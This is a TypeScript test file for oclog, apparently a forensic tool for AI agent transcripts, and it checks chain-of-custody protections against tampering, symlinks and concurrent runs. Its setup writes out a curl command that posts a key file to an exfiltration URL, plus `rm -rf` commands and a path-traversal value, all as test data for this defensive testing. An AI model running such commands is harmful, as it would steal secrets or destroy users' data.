// Issue 20, the case folder as evidence: against a real Azurite holding the demo incident's real
// records, oclog refuses folders that are not its cases and links inside a case, lets one run at a
// time hold a case, refuses a rerun over evidence edited since custody recorded it, checks
// case.duckdb against the hash custody sealed, and keeps blobs named `__proto__` like any other.
import test from "ava";
import { spawn, spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { chmodSync, cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { hostname, tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { gunzipSync } from "node:zlib";
import { BlobServiceClient } from "@azure/storage-blob";
import { DuckDBInstance } from "@duckdb/node-api";
import { startAzurite, type Azurite } from "@oclog/test-kit/azurite";
import { CaseLockedError, CaseSymlinkError, EvidenceTamperedError, ForeignCaseFolderError } from "../src/case/case-errors.js";
import { verifyCase } from "../src/evidence/case-verify.js";
import { verifyCustody } from "../src/evidence/custody-log.js";
import { sha256File } from "../src/evidence/evidence-store.js";
import { buildDemoIncident, DEMO_FIXTURES, uploadIncident } from "@oclog/test-kit/demo";
import { runInvestigation } from "../src/run-investigation.js";
import { Sensitive } from "../src/sensitive.js";
import { runCaseQuery } from "../src/case/sql-query.js";
import { Dice, HOSTILE_STRINGS } from "../../../test/hostile/hostile-random.js";

const corpus = fileURLToPath(new URL("../../../test/hostile/corpus/case/", import.meta.url));
/** Blob names that are keys of Object.prototype: each must be evidence like any other name. */
const PROTOTYPE_NAMES = ["__proto__", "constructor", "toString", "hasOwnProperty"];
let azurite: Azurite;
/** A finished alice case, copied (not rerun) by tests that only tamper and verify. */
let pristine: string;

test.before(async () => {
  azurite = await startAzurite();
  await uploadIncident(azurite.connectionString, buildDemoIncident(DEMO_FIXTURES));
  // mallory's container: the demo's real transcript, its exfiltration command turned into an
  // `rm -rf`, uploaded (plain text) under names that are Object.prototype keys.
  const demo = buildDemoIncident(DEMO_FIXTURES, "mallory");
  const transcript = demo.blobs.map((b) => gunzipSync(b.content).toString("utf8")).find((text) => text.includes("call_demo_exfil"))!;
  const container = BlobServiceClient.fromConnectionString(azurite.connectionString).getContainerClient("oclog-mallory");
  await container.createIfNotExists();
  for (const [i, name] of PROTOTYPE_NAMES.entries()) {
    // One tool call id per blob, so each blob's command is its own event, not a copy of another's.
    const text = transcript
      .replaceAll(`curl -s -X POST --data-binary @${demo.injection.keyPath} ${demo.injection.exfilUrl}`, `rm -rf /home/mallory/work-${name}`)
      .replaceAll("call_demo_exfil", `call_demo_exfil_${i}`);
    await container.getBlockBlobClient(name).uploadData(Buffer.from(text));
  }
  pristine = newCaseDir();
  await run(pristine);
});
test.after.always(async () => {
  await azurite?.stop();
});

function newCaseDir(): string {
  return join(mkdtempSync(join(tmpdir(), "oclog-case-hostile-")), "case");
}

function run(caseDir: string, user = "alice") {
  return runInvestigation({ user, connectionString: new Sensitive(azurite.connectionString), caseDir, oclogVersion: "test" });
}

/** A copy of the pristine case, as a tamperer would find it. */
function copyOfCase(): string {
  const dir = newCaseDir();
  cpSync(pristine, dir, { recursive: true });
  return dir;
}

const sha = (path: string) => createHash("sha256").update(readFileSync(path)).digest("hex");

function tree(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  for (const entry of readdirSync(dir, { withFileTypes: true, recursive: true })) {
    const path = join(entry.parentPath, entry.name);
    if (entry.isFile()) out[path] = sha(path);
  }
  return out;
}

function manifestOf(caseDir: string): { evidence: Record<string, { path: string; sha256: string; size: number }> } {
  return JSON.parse(readFileSync(join(caseDir, "manifest.json"), "utf8")) as { evidence: Record<string, { path: string; sha256: string; size: number }> };
}

async function custodyActions(caseDir: string): Promise<string[]> {
  return (await verifyCustody(join(caseDir, "custody.jsonl"))).entries.map((e) => e.action);
}

test.serial("blobs named __proto__, constructor, toString, hasOwnProperty are kept, analysed and verified like any other", async (t) => {
  const caseDir = newCaseDir();
  const first = await run(caseDir, "mallory");
  t.is(first.blobs.downloaded, PROTOTYPE_NAMES.length);
  const text = readFileSync(join(caseDir, "manifest.json"), "utf8");
  const manifest = JSON.parse(text) as { evidence: object };
  t.deepEqual(Object.keys(manifest.evidence).sort(), [...PROTOTYPE_NAMES].sort(), "every name is an own key of manifest.json");
  const destructive = first.findings.find((f) => f.detection.file.endsWith("tool_destructive_command.yml"));
  t.truthy(destructive, "the rm -rf in these blobs is a finding");
  const blobs = new Set(destructive!.rows.map((row) => row.blob));
  for (const name of PROTOTYPE_NAMES) t.true(blobs.has(name), `the finding cites blob ${name}`);
  const verify = await verifyCase(caseDir);
  t.true(verify.ok, verify.problems.join("; "));
  t.is(verify.files, PROTOTYPE_NAMES.length);
  const again = await run(caseDir, "mallory");
  t.is(again.blobs.reused, PROTOTYPE_NAMES.length, "a rerun finds them all in the manifest");
  t.is(again.blobs.downloaded, 0);
  const sql = await runCaseQuery(caseDir, "SELECT DISTINCT blob FROM evidence_files ORDER BY 1");
  t.deepEqual(sql.rows.map((r) => r.blob), [...PROTOTYPE_NAMES].sort());
});

test.serial("--case-dir at a folder that is not an oclog case, or a link to one, is refused and left as it was", async (t) => {
  for (const planted of ["users-own-folder", "foreign-manifest"]) {
    const dir = join(mkdtempSync(join(tmpdir(), "oclog-foreign-")), planted);
    cpSync(join(corpus, planted), dir, { recursive: true });
    const before = tree(dir);
    const error = await t.throwsAsync(run(dir), { instanceOf: ForeignCaseFolderError }, planted);
    t.regex(error!.message, /would overwrite/);
    t.regex(error!.hint!, /new or empty folder/);
    t.deepEqual(tree(dir), before, `${planted}: nothing changed`);
    t.deepEqual(readdirSync(dir).sort(), readdirSync(join(corpus, planted)).sort(), `${planted}: nothing added (no lock, no evidence/)`);
  }
  const link = join(mkdtempSync(join(tmpdir(), "oclog-link-")), "case");
  symlinkSync(pristine, link);
  const linked = await t.throwsAsync(run(link), { instanceOf: ForeignCaseFolderError });
  t.regex(linked!.message, /symbolic link/);
  const file = join(mkdtempSync(join(tmpdir(), "oclog-file-")), "case");
  writeFileSync(file, "a file, not a folder");
  await t.throwsAsync(run(file), { instanceOf: ForeignCaseFolderError });
  const others = copyOfCase();
  const before = tree(others);
  await t.throwsAsync(run(others, "mallory"), { instanceOf: ForeignCaseFolderError, message: /is the case of user "alice"/ }, "another user's case");
  t.deepEqual(tree(others), before, "another user's case is left as it was");
  const empty = join(mkdtempSync(join(tmpdir(), "oclog-empty-")), "case");
  mkdirSync(empty);
  const result = await run(empty);
  t.true(result.blobs.downloaded > 0, "an empty existing folder is fine");
});

test.serial("links inside a case are never followed: the rerun refuses, verify reports them, the targets stay untouched", async (t) => {
  const outside = join(mkdtempSync(join(tmpdir(), "oclog-victim-")), "victim.txt");
  writeFileSync(outside, "the user's own file\n");
  const plants: [string, (caseDir: string) => string][] = [
    ["report.html", (c) => (rmSync(join(c, "report.html")), symlinkSync(outside, join(c, "report.html")), "report.html")],
    ["custody.jsonl", (c) => (cpSync(join(c, "custody.jsonl"), `${outside}.custody`), rmSync(join(c, "custody.jsonl")), symlinkSync(`${outside}.custody`, join(c, "custody.jsonl")), "custody.jsonl")],
    ["evidence file", (c) => {
      // The link points at an identical copy: following it would hash clean, so only refusing links catches it.
      const entry = Object.values(manifestOf(c).evidence)[0]!;
      cpSync(join(c, entry.path), `${outside}.evidence`);
      rmSync(join(c, entry.path), { force: true });
      symlinkSync(`${outside}.evidence`, join(c, entry.path));
      return entry.path;
    }],
    ["case.duckdb", (c) => (rmSync(join(c, "case.duckdb")), symlinkSync(join(pristine, "case.duckdb"), join(c, "case.duckdb")), "case.duckdb")],
  ];
  for (const [label, plant] of plants) {
    const caseDir = copyOfCase();
    const linkPath = plant(caseDir);
    const victims = tree(join(outside, ".."));
    const pristineBefore = tree(pristine);
    const verify = await verifyCase(caseDir);
    t.false(verify.ok, label);
    t.true(verify.problems.some((p) => p.startsWith(linkPath) && /symbolic link/.test(p)), `${label}: ${verify.problems.join("; ")}`);
    const error = await t.throwsAsync(run(caseDir), { instanceOf: CaseSymlinkError }, label);
    t.true((error!.context.links as string[]).includes(linkPath), label);
    t.deepEqual(tree(join(outside, "..")), victims, `${label}: the link's target was not written`);
    t.deepEqual(tree(pristine), pristineBefore, `${label}: the case a link points at was not written`);
    if (label === "case.duckdb") {
      await t.throwsAsync(runCaseQuery(caseDir, "SELECT 1"), { instanceOf: CaseSymlinkError }, "oclog sql does not open a linked database");
    }
  }
  t.is(readFileSync(outside, "utf8"), "the user's own file\n");
});

test.serial("two concurrent runs on one case: one runs, the other is refused naming the holder; custody stays one chain", async (t) => {
  const caseDir = newCaseDir();
  const results = await Promise.allSettled([run(caseDir), run(caseDir)]);
  const done = results.filter((r) => r.status === "fulfilled");
  const refused = results.filter((r): r is PromiseRejectedResult => r.status === "rejected");
  t.is(done.length, 1);
  t.is(refused.length, 1);
  t.true(refused[0]!.reason instanceof CaseLockedError, String(refused[0]!.reason));
  t.regex((refused[0]!.reason as Error).message, new RegExp(`pid ${process.pid} on host "${hostname()}"`));
  t.regex((refused[0]!.reason as CaseLockedError).hint!, /case\.lock/);
  t.false(existsSync(join(caseDir, "case.lock")), "the lock is released when the run ends");
  const verify = await verifyCase(caseDir);
  t.true(verify.ok, verify.problems.join("; "));
  t.is((await custodyActions(caseDir)).filter((a) => a === "investigation.start").length, 1, "the refused run wrote nothing to custody");
});

test.serial("a lock held by a live process is respected; once that process is dead its lock is taken over and custody says so", async (t) => {
  const caseDir = copyOfCase();
  const holder = spawn(process.execPath, ["-e", "setInterval(() => {}, 1000)"], { stdio: "ignore" });
  const lock = { pid: holder.pid!, host: hostname(), startedAt: new Date().toISOString(), token: "planted" };
  writeFileSync(join(caseDir, "case.lock"), JSON.stringify(lock));
  const live = await t.throwsAsync(run(caseDir), { instanceOf: CaseLockedError });
  t.regex(live!.message, new RegExp(`pid ${holder.pid} .*that process is running`));
  const exited = new Promise((resolve) => holder.once("exit", resolve));
  holder.kill("SIGKILL");
  await exited;
  const result = await run(caseDir);
  t.true(result.blobs.reused > 0);
  const custody = (await verifyCustody(join(caseDir, "custody.jsonl"))).entries;
  const takeover = custody.find((e) => e.action === "case.lock.takeover");
  t.truthy(takeover, "the takeover is in custody");
  t.is((takeover!.details.previous as { pid: number }).pid, holder.pid!);
  t.false(existsSync(join(caseDir, "case.lock")));
  t.false(existsSync(join(caseDir, "case.lock.takeover")));
  t.true((await verifyCase(caseDir)).ok);

  // A dead pid from another host proves nothing: that host's process may be alive.
  const dead = spawnSync(process.execPath, ["-e", ""]).pid;
  writeFileSync(join(caseDir, "case.lock"), JSON.stringify({ ...lock, pid: dead, host: `${hostname()}-elsewhere` }));
  const foreign = await t.throwsAsync(run(caseDir), { instanceOf: CaseLockedError });
  t.regex(foreign!.message, /another host/);
  // An unreadable lock (being written this instant, or left half-written) also counts as held.
  writeFileSync(join(caseDir, "case.lock"), "");
  await t.throwsAsync(run(caseDir), { instanceOf: CaseLockedError });
});

test.serial("two runs finding the same stale lock at once: exactly one takes it over, once", async (t) => {
  const caseDir = copyOfCase();
  const dead = spawnSync(process.execPath, ["-e", ""]).pid;
  writeFileSync(join(caseDir, "case.lock"), JSON.stringify({ pid: dead, host: hostname(), startedAt: new Date().toISOString(), token: "stale" }));
  const results = await Promise.allSettled([run(caseDir), run(caseDir)]);
  t.is(results.filter((r) => r.status === "fulfilled").length, 1);
  const refused = results.find((r): r is PromiseRejectedResult => r.status === "rejected");
  t.true(refused?.reason instanceof CaseLockedError, String(refused?.reason));
  t.is((await custodyActions(caseDir)).filter((a) => a === "case.lock.takeover").length, 1);
  t.true((await verifyCase(caseDir)).ok);
  t.false(existsSync(join(caseDir, "case.lock")));
});

test.serial("a rerun over evidence edited to the same length refuses before any report is rewritten, and records why", async (t) => {
  const caseDir = newCaseDir();
  await run(caseDir, "mallory");
  const entry = manifestOf(caseDir).evidence.__proto__!;
  const file = join(caseDir, entry.path);
  chmodSync(file, 0o644);
  const original = readFileSync(file, "utf8");
  const edited = original.replaceAll("rm -rf", "ls -la");
  t.is(edited.length, original.length);
  t.not(edited, original);
  writeFileSync(file, edited);
  const reports = tree(caseDir);
  const error = await t.throwsAsync(run(caseDir, "mallory"), { instanceOf: EvidenceTamperedError });
  t.regex(error!.message, /__proto__.*does not match the manifest/);
  t.regex(error!.hint!, /new --case-dir/);
  t.deepEqual(tree(caseDir), { ...reports, [join(caseDir, "custody.jsonl")]: sha(join(caseDir, "custody.jsonl")) }, "only custody changed: no report rewritten");
  t.true((await custodyActions(caseDir)).includes("investigation.refused"));
  const verify = await verifyCase(caseDir);
  t.true(verify.problems.some((p) => /__proto__.*does not match the manifest/.test(p)));

  // Editing the manifest to match the edited file does not help: custody holds the original hash.
  const manifest = JSON.parse(readFileSync(join(caseDir, "manifest.json"), "utf8")) as { evidence: Record<string, { sha256: string }> };
  manifest.evidence.__proto__!.sha256 = sha(file);
  writeFileSync(join(caseDir, "manifest.json"), JSON.stringify(manifest, null, 2));
  const again = await t.throwsAsync(run(caseDir, "mallory"), { instanceOf: EvidenceTamperedError });
  t.regex(again!.message, /manifest\.json says SHA-256 .* custody recorded .*manifest was edited/);
  const verifyAgain = await verifyCase(caseDir);
  t.false(verifyAgain.ok);
  t.true(verifyAgain.problems.some((p) => /custody recorded/.test(p)), verifyAgain.problems.join("; "));

  // Deleting custody as well leaves a manifest with no chain: refused too.
  rmSync(join(caseDir, "custody.jsonl"));
  await t.throwsAsync(run(caseDir, "mallory"), { instanceOf: EvidenceTamperedError, message: /custody\.jsonl is missing/ });
});

test.serial("case verify checks case.duckdb against the hash sealed in custody; a rerun rebuilds and reseals it", async (t) => {
  const caseDir = copyOfCase();
  t.true((await custodyActions(caseDir)).includes("database.sealed"));
  t.true((await verifyCase(caseDir)).ok, "read-only queries (above and in oclog sql) leave the sealed hash intact");
  await runCaseQuery(caseDir, "SELECT count(*) FROM events");
  t.true((await verifyCase(caseDir)).ok);
  // The real attack: someone opens the case database read-write and deletes what incriminates.
  const instance = await DuckDBInstance.create(join(caseDir, "case.duckdb"));
  const connection = await instance.connect();
  await connection.run("DELETE FROM events WHERE category = 'tool'");
  connection.closeSync();
  instance.closeSync();
  const verify = await verifyCase(caseDir);
  t.false(verify.ok);
  t.true(verify.problems.some((p) => /^case\.duckdb: SHA-256 .* does not match the hash sealed in custody/.test(p)), verify.problems.join("; "));
  await run(caseDir);
  const rebuilt = await verifyCase(caseDir);
  t.true(rebuilt.ok, rebuilt.problems.join("; "));
});

test.serial("seeded random tampering with a real case is always reported by verify, and a rerun never trusts it", async (t) => {
  const mutations: Record<string, (caseDir: string, dice: Dice) => void> = {
    "flip a byte of an evidence file": (c, dice) => {
      const entry = dice.pick(Object.values(manifestOf(c).evidence));
      const path = join(c, entry.path);
      const bytes = readFileSync(path);
      const at = dice.int(0, bytes.length - 1);
      bytes[at] = bytes[at]! ^ (1 << dice.int(0, 7));
      chmodSync(path, 0o644);
      writeFileSync(path, bytes);
    },
    "truncate an evidence file": (c, dice) => {
      const entry = dice.pick(Object.values(manifestOf(c).evidence));
      const path = join(c, entry.path);
      chmodSync(path, 0o644);
      writeFileSync(path, readFileSync(path).subarray(0, dice.int(0, entry.size - 1)));
    },
    "delete an evidence file": (c, dice) => rmSync(join(c, dice.pick(Object.values(manifestOf(c).evidence)).path)),
    "edit a manifest hash": (c, dice) => {
      const manifest = JSON.parse(readFileSync(join(c, "manifest.json"), "utf8")) as { evidence: Record<string, { sha256: string }> };
      const name = dice.pick(Object.keys(manifest.evidence));
      manifest.evidence[name]!.sha256 = createHash("sha256").update(String(dice.int(0, 1e9))).digest("hex");
      writeFileSync(join(c, "manifest.json"), JSON.stringify(manifest));
    },
    "edit a custody line": (c, dice) => {
      const lines = readFileSync(join(c, "custody.jsonl"), "utf8").split("\n");
      const at = dice.int(0, lines.length - 2);
      lines[at] = lines[at]!.replace(/"at":"[^"]+"/, `"at":"${new Date(dice.int(0, 2e12)).toISOString()}"`);
      writeFileSync(join(c, "custody.jsonl"), lines.join("\n"));
    },
    "drop a custody line": (c, dice) => {
      const lines = readFileSync(join(c, "custody.jsonl"), "utf8").split("\n");
      lines.splice(dice.int(0, lines.length - 2), 1);
      writeFileSync(join(c, "custody.jsonl"), lines.join("\n"));
    },
    "point a manifest entry at another file": (c, dice) => {
      const manifest = JSON.parse(readFileSync(join(c, "manifest.json"), "utf8")) as { evidence: Record<string, { path: string }> };
      const names = Object.keys(manifest.evidence);
      const name = dice.pick(names);
      manifest.evidence[name]!.path = dice.pick(["../../../../etc/hostname", "custody.jsonl", manifest.evidence[dice.pick(names.filter((n) => n !== name))]!.path]);
      writeFileSync(join(c, "manifest.json"), JSON.stringify(manifest));
    },
    "rename a manifest key to a hostile string": (c, dice) => {
      const manifest = JSON.parse(readFileSync(join(c, "manifest.json"), "utf8")) as { evidence: Record<string, unknown> };
      const name = dice.pick(Object.keys(manifest.evidence));
      const entry = manifest.evidence[name];
      delete manifest.evidence[name];
      Object.defineProperty(manifest.evidence, dice.pick(HOSTILE_STRINGS), { value: entry, enumerable: true, configurable: true, writable: true });
      writeFileSync(join(c, "manifest.json"), JSON.stringify(manifest));
    },
    "plant a file in evidence/": (c, dice) => writeFileSync(join(c, "evidence", `planted-${dice.int(0, 1e6)}.jsonl`), "{}\n"),
    "append to case.duckdb": (c, dice) => writeFileSync(join(c, "case.duckdb"), Buffer.alloc(dice.int(1, 4096), 7), { flag: "a" }),
  };
  const names = Object.keys(mutations);
  let reruns = 0;
  const used = new Set<string>();
  for (let i = 0; i < 24; i++) {
    const seed = `case-tamper-${i}`;
    const dice = new Dice(seed);
    const caseDir = copyOfCase();
    // Every kind in turn, sometimes with a second one on top; the seed picks targets, offsets, bytes.
    const applied = [names[i % names.length]!, ...(dice.chance(0.3) ? [dice.pick(names)] : [])];
    for (const name of applied) mutations[name]!(caseDir, dice);
    for (const name of applied) used.add(name);
    const verify = await verifyCase(caseDir);
    t.false(verify.ok, `${seed} (${applied.join(" + ")}): verify found nothing`);
    // Reruns are slower (storage, analysis): every fourth seed, the rerun must refuse or rebuild cleanly.
    if (i % 4 === 0) {
      reruns++;
      // A planted unlisted file is never analysed (verify reports it); a rewritten case.duckdb is rebuilt.
      const evidenceOrCustody = applied.some((name) => !/case\.duckdb|plant a file/.test(name));
      const outcome = await run(caseDir).then(
        () => "ran",
        (error: Error) => error.constructor.name,
      );
      if (evidenceOrCustody) t.not(outcome, "ran", `${seed} (${applied.join(" + ")}): a rerun trusted tampered evidence or custody`);
      t.true(["ran", "EvidenceTamperedError", "OclogError"].includes(outcome), `${seed}: a typed refusal, not ${outcome}`);
    }
  }
  t.true(reruns >= 4);
  t.deepEqual([...used].sort(), [...names].sort(), "the seeds exercise every kind of tampering");
  t.true(statSync(pristine).isDirectory());
});

test.serial("every tampered evidence file is reported, one problem each, in the manifest's order (files are hashed several at once)", async (t) => {
  const caseDir = copyOfCase();
  const entries = Object.values(manifestOf(caseDir).evidence);
  t.true(entries.length >= 3, `${entries.length} evidence files`);
  // Every other file edited, the last one gone: problems of two kinds, interleaved with clean files.
  const tampered = entries.filter((_, i) => i % 2 === 0 || i === entries.length - 1);
  for (const entry of tampered) {
    const path = join(caseDir, entry.path);
    chmodSync(path, 0o644);
    if (entry === entries.at(-1)) rmSync(path);
    else writeFileSync(path, Buffer.concat([readFileSync(path), Buffer.from("x")]));
  }
  const verify = await verifyCase(caseDir);
  const evidenceProblems = verify.problems.filter((p) => tampered.some((e) => p.includes(e.path)));
  t.is(evidenceProblems.length, tampered.length, evidenceProblems.join("\n"));
  t.deepEqual(
    evidenceProblems.map((p) => tampered.findIndex((e) => p.includes(e.path))),
    tampered.map((_, i) => i),
    "in manifest order",
  );
  t.regex(evidenceProblems.at(-1)!, /missing \(ENOENT\)/);
});

test("a timeline file that cannot be written (a folder in its place) fails the rerun with the path, while the detections ran beside it; the next rerun after it is removed writes it", async (t) => {
  const dir = copyOfCase();
  rmSync(join(dir, "timeline.jsonl"));
  mkdirSync(join(dir, "timeline.jsonl", "in-the-way"), { recursive: true });
  const error = await t.throwsAsync(run(dir));
  t.regex(String(error?.message), /timeline\.jsonl/);
  // The export's connections were closed and the case released: a rerun works.
  rmSync(join(dir, "timeline.jsonl"), { recursive: true });
  const result = await run(dir);
  t.true(readFileSync(join(dir, "timeline.jsonl"), "utf8").split("\n").filter(Boolean).length === result.load.events);
});

test("sha256File hashes every byte: files across and at its 1 MiB read size, one byte changed at the end, and an empty file", async (t) => {
  const dir = mkdtempSync(join(tmpdir(), "oclog-sha256-"));
  for (const size of [0, 1, (1 << 20) - 1, 1 << 20, (1 << 20) + 1, 3.5 * (1 << 20)]) {
    const bytes = Buffer.alloc(size, 0x5a);
    for (let i = 0; i < size; i += 4093) bytes[i] = i % 251;
    const path = join(dir, `f-${size}`);
    writeFileSync(path, bytes);
    t.is(await sha256File(path), createHash("sha256").update(bytes).digest("hex"), `${size} bytes`);
    if (size > 0) {
      bytes[size - 1] = bytes[size - 1]! ^ 1;
      writeFileSync(path, bytes);
      t.is(await sha256File(path), createHash("sha256").update(bytes).digest("hex"), `${size} bytes, last one changed`);
    }
  }
  symlinkSync(join(dir, "f-1"), join(dir, "link"));
  await t.throwsAsync(sha256File(join(dir, "link")), { code: "ELOOP" }, "a link is never followed");
});
